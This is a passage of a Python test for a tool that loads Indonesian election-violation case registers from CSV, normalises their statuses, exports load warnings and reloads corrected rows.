    register.write_text("No. Register,Nama Terlapor,Tanggal Kejadian,Kabupaten/Kota,Status,Pemilihan\n"
                        "R-1,Budi,10/10/2024,Kab. Batang,Kotak,Pilkada 2024\n"
                        "R-2,Siti,10/10/2024,Kab. Batang,Terbukti,Pilkada 2024\n", encoding="utf-8")
    assert main(["load", str(register)]) == 0  # every row loaded; one status could not be read
    assert query("select case_id, status from cases order by case_id") == [("R-1", "dilaporkan"), ("R-2", "terbukti")]
    out = tmp_path / "peringatan.csv"
    assert main(["rejected", "--warnings", "--out", str(out)]) == 0
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[2].startswith("Baris,No. Register,") and lines[2].endswith(",Peringatan")
    assert lines[3].startswith("2,R-1,Budi,10/10/2024,Kab. Batang,Kotak,Pilkada 2024,")
    out.write_text("\n".join(lines).replace(",Kotak,", ",Sudah ditindaklanjuti PPK,"), encoding="utf-8")
    assert main(["load", str(out)]) == 0  # not a duplicate: the corrected row replaces the record
    assert query("select case_id, subject_no, status from cases order by case_id") == [
        ("R-1", 1, "disanksi"), ("R-2", 1, "terbukti")]
    assert query("select count(*) from load_warnings") == [(0,)]  # the corrected warning is gone
